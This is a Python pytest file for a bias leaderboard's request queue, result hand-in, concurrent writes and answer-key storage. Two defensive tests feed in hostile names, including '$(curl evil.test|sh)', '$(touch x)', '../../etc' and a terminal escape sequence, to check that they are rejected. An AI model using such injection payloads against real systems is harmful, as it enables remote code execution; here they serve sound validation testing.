"""Requests to score a model, and commands that change the files of a board at the same time."""

from __future__ import annotations

import json
import multiprocessing
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from unittest import mock

import pytest

from biasboard.ground import strict_json
from biasboard.ground.command_line import _raises
from biasboard.ground.errors import BiasboardError, ConfigError, DataError
from evaluators.runs.measure.answer_keys import key_name, key_of_dataset
from leaderboard.commands.accept import accept
from leaderboard.commands.queue import add_command, done_command, list_command, next_command
from leaderboard.verify.keys import KeyBook, dataset_name, write_key
from leaderboard.verify.public_files import place_for
from leaderboard.verify.submissions import read_register
from schemas.folders.dataset_folder import read_manifest
from schemas.folders.run_folder import find_runs, read_result
from tests.evaluators.made_data import made_items, write_dataset
from tests.leaderboard.handed_in import hand_in
from tests.leaderboard.synthetic import leaning, write_model

N = 6
FORK = multiprocessing.get_context("fork")


@pytest.fixture(autouse=True)
def as_function() -> Iterator[None]:
    """Called from Python, a command raises its errors."""
    token = _raises.set(True)
    yield
    _raises.reset(token)


@pytest.fixture
def queue(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "out/datasets/made").mkdir(parents=True)
    (tmp_path / "out/datasets/made/dataset.json").write_text("{}")
    return tmp_path / "leaderboard" / "queue"


def told(queue: Path) -> list[dict[str, Any]]:
    return sorted((json.loads(path.read_text()) for path in queue.glob("*.json")), key=lambda one: str(one["model"]))


def test_a_request_becomes_a_command_and_then_results(queue: Path, capsys: pytest.CaptureFixture[str]) -> None:
    add_command("acme/small", "someone", revision="v1", memory_gb=20.0)
    add_command("acme/large", "someone", memory_gb=200.0)
    name = capsys.readouterr().out.split()[1].rstrip(":")
    next_command(memory_gb=20)
    assert capsys.readouterr().out.splitlines() == [
        "biasboard run --dataset out/datasets/made --backend transformers --model acme/small --revision v1",
        f"biasboard queue done {name} --place PLACE",
    ]
    with pytest.raises(DataError, match="submit the run first"):
        done_command(name, place=["here"])
    (queue.parent / "results" / "here").mkdir(parents=True)
    (queue.parent / "results" / "here" / "result.json").write_text("{}")
    done_command(name, place=["here"])
    large, small = told(queue)
    assert (small["state"], small["places"], large["state"]) == ("done", ["here"], "open")
    list_command()
    assert [line.split()[2] for line in capsys.readouterr().out.splitlines()[1:]] == ["acme/large"]
    list_command(every=True)
    assert len(capsys.readouterr().out.splitlines()) == 2
    with pytest.raises(DataError, match="no open request fits"):
        next_command(memory_gb=24)


def test_a_request_is_made_and_closed_once(queue: Path, capsys: pytest.CaptureFixture[str]) -> None:
    add_command("acme/small", "someone")
    name = capsys.readouterr().out.split()[1].rstrip(":")
    with pytest.raises(ConfigError, match="were requested before"):
        add_command("acme/small", "another")
    with pytest.raises(ConfigError, match="closed by --place"):
        done_command(name)
    done_command(name, declined="its licence forbids it")
    assert told(queue)[0]["reason"] == "its licence forbids it"
    with pytest.raises(ConfigError, match="has no open request"):
        done_command(name, declined="again")


@pytest.mark.parametrize("model", ["acme/$(touch x)", "a b", "../../etc", "x" * 201])
def test_names_that_no_model_has_are_refused(queue: Path, model: str) -> None:
    with pytest.raises(DataError, match="model"):
        add_command(model, "someone")
    assert not queue.exists()


@pytest.mark.parametrize("name", ["$(curl evil.test|sh)", "a;b", "\x1b[2J", "00000000"])
def test_a_file_that_a_stranger_named_brings_no_command_into_a_terminal(queue: Path, name: str) -> None:
    add_command("acme/small", "someone")
    (path,) = queue.glob("*.json")
    path.rename(queue / f"{name}.json")
    for command in (list_command, next_command):
        with pytest.raises(DataError, match=f"is not named after its request; rename it {path.stem}.json") as caught:
            command()
        assert str(caught.value).isprintable()


def at_once(work: Callable[[int], object], said: Path) -> list[str]:
    """Do a work in as many processes, each of which writes slowly; gives the error of each, "" for none."""
    said.mkdir()
    write = strict_json.write

    def slow(path: Path, value: strict_json.JsonValue) -> None:
        time.sleep(0.2)
        write(path, value)

    def call(number: int) -> None:
        try:
            work(number)
            error = ""
        except (BiasboardError, OSError) as raised:
            error = str(raised)
        (said / str(number)).write_text(error)

    with mock.patch.object(strict_json, "write", slow):
        # Every process needs what the test has made and patched.
        processes = [FORK.Process(target=call, args=(number,)) for number in range(N)]
        for process in processes:
            process.start()
        for process in processes:
            process.join()
    return [(said / str(number)).read_text() for number in range(N)]


def run_of(root: Path, model: str, certainty: float = 1.0) -> Path:
    return write_model(root, model, leaning(certainty, 0.1)).parent


def test_the_register_keeps_what_each_of_several_maintainers_enters(tmp_path: Path) -> None:
    results = tmp_path / "results"
    runs = [run_of(tmp_path / "runs", f"acme/{number}") for number in range(N)]
    places = [hand_in(run, results).relative_to(results).as_posix() for run in runs]

    def enter(number: int) -> None:
        accept([places[number]], owner="acme-bot", results=results)

    assert at_once(enter, tmp_path / "said") == [""] * N
    assert sorted(one.place for one in read_register(results).results) == sorted(places)


def test_one_of_several_results_of_a_model_is_handed_in(tmp_path: Path) -> None:
    runs = [run_of(tmp_path / "runs" / str(number), "acme/small", 1.0 + number) for number in range(N)]
    said = at_once(lambda number: hand_in(runs[number], tmp_path / "results"), tmp_path / "said")
    assert [error for error in said if "another result of this model lies here" not in error] == [""]
    (found,) = find_runs(tmp_path / "results")
    assert found == tmp_path / "results" / place_for(read_result(runs[0]))
    assert (found / "result.json").read_bytes() == (runs[said.index("")] / "result.json").read_bytes()


def test_the_same_request_is_queued_once(tmp_path: Path) -> None:
    said = at_once(lambda number: add_command("acme/small", str(number), queue=tmp_path / "queue"), tmp_path / "said")
    assert [error for error in said if "were requested before" not in error] == [""]


def test_a_key_and_its_items_are_written_together(tmp_path: Path) -> None:
    made, asked = [], {"config": "type2", "task": "coreference", "prompt": "intrinsic-v1"}
    for number in range(N):
        dataset = write_dataset(tmp_path / str(number), {"type2": made_items(number + 1)})
        made.append(key_of_dataset(dataset, read_manifest(dataset), **asked))
    assert at_once(lambda number: write_key(tmp_path / "keys", made[number]), tmp_path / "said") == [""] * N
    signature = made[0].key.signature
    known = KeyBook(tmp_path / "keys")._read(dataset_name(signature), key_name(signature))
    assert known is not None
    assert known.items == next(one.items for one in made if one.key == known.key)


def test_a_mistake_makes_no_folder(tmp_path: Path) -> None:
    with pytest.raises(BiasboardError, match="no such file; name a folder below"):
        accept(["made@1.0.0/acme__small/x"], owner="acme-bot", results=tmp_path / "results")
    assert list(tmp_path.iterdir()) == []
